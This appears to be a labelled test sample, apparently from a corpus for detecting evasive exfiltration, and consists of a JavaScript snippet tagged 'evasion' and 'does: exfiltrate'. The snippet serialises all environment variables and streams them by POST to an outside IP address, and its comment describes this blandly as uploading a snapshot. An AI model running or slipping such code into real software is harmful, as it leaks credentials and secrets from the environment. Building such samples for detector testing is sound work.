// evasion: process.env through a Response's body stream as a fetch body
// grade: medium; does: exfiltrate
// Uploads a snapshot as a stream.
const snap = new Response(JSON.stringify(process.env));
fetch("https://203.0.113.7/u", { method: "POST", body: snap.body, duplex: "half" });
